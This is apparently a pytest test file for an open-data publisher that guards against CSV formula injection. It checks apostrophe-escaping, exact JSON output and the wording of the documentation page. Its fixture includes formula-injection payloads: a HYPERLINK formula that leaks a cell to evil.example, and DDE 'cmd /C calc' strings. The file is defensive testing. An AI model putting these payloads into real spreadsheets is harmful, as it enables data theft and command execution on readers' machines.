"""CSV formula injection: a cell that a spreadsheet would run as a formula starts with an apostrophe;
the JSON keeps the text exactly; the open-data page says so."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest
from explainer.publish.opendata import FORMULA_STARTS, neutralise_formula

from .support import ENV, PYTHON, minimal, write_content

# What reaches a cell through content: text fields are stripped, so tab and CR cannot lead one.
FORMULAS = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# Free-text columns of each kind published as CSV, each given one formula.
CSV_FIELDS = {
    "facts": ("fact-a", ["statement", "note"]),
    "events": ("ev-a", ["title", "summary", "note"]),
    "terms": ("term-a", ["term", "abbreviation", "zh", "pinyin", "definition"]),
}


def _content_with_formulas() -> tuple[dict, dict[tuple[str, str], str]]:
    content = minimal()
    placed: dict[tuple[str, str], str] = {}
    formulas = list(FORMULAS.values())
    n = 0
    for plural, (ident, fields) in CSV_FIELDS.items():
        [item] = [i for i in content[plural] if i["id"] == ident]
        for field in fields:
            item[field] = formulas[n % len(formulas)] + f" {field}"
            placed[(plural, field)] = item[field]
            n += 1
    [term] = content["terms"][:1]
    term["aliases"] = [FORMULAS["equals"], "plain alias"]  # a list: one cell, its first entry leads
    return content, placed


@pytest.fixture(scope="module")
def published(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("csv")
    content, _ = _content_with_formulas()
    folder = write_content(base / "content", content)
    result = subprocess.run(
        [PYTHON, "-m", "explainer", "--content", str(folder), "data", str(base / "out")]
        + ["--site-url", "https://example.org/site/", "--site-name", "Site"],
        cwd=base,
        env=ENV,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    return base / "out"


def _rows(published: Path, plural: str) -> list[dict[str, str]]:
    text = (published / "data" / f"{plural}.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("plural", list(CSV_FIELDS))
def test_no_csv_cell_starts_a_formula(published, plural):
    cells = [cell for row in _rows(published, plural) for cell in row.values()]
    assert cells
    leading = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not leading, leading


@pytest.mark.parametrize("plural,field", [(p, f) for p, (_, fields) in CSV_FIELDS.items() for f in fields])
def test_a_formula_cell_is_shown_as_text_and_the_json_stays_exact(published, plural, field):
    _, placed = _content_with_formulas()
    text = placed[(plural, field)]
    ident = CSV_FIELDS[plural][0]
    [row] = [r for r in _rows(published, plural) if r["id"] == ident]
    assert row[field] == "'" + text
    [item] = [i for i in json.loads((published / "data" / f"{plural}.json").read_text()) if i["id"] == ident]
    assert item[field] == text


def test_a_list_cell_is_a_json_array_and_never_a_formula(published):
    [row] = [r for r in _rows(published, "terms") if r["id"] == "term-a"]
    assert row["aliases"].startswith("[")
    assert json.loads(row["aliases"]) == [FORMULAS["equals"], "plain alias"]
    [item] = [i for i in json.loads((published / "data" / "terms.json").read_text()) if i["id"] == "term-a"]
    assert item["aliases"] == [FORMULAS["equals"], "plain alias"]


def test_other_cells_are_left_alone(published):
    [row] = [r for r in _rows(published, "terms") if r["id"] == "term-b"]
    assert row["term"] == "Term Beta" and row["definition"] == "Another term."
    assert row["url"].startswith("https://example.org/site/")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert neutralise_formula(start + "1+1") == "'" + start + "1+1"
    assert neutralise_formula("1" + start + "1") == "1" + start + "1"  # only the first character counts


def test_the_open_data_page_says_so(published):
    page = (published / "data.md").read_text(encoding="utf-8")
    paragraph = next(line for line in page.splitlines() if line.startswith("- **CSV**"))
    for mark in ("`=`", "`+`", "`-`", "`@`", "a tab", "a carriage return", "apostrophe", "JSON files hold the text"):
        assert mark in paragraph, f"{mark!r} missing from: {paragraph}"
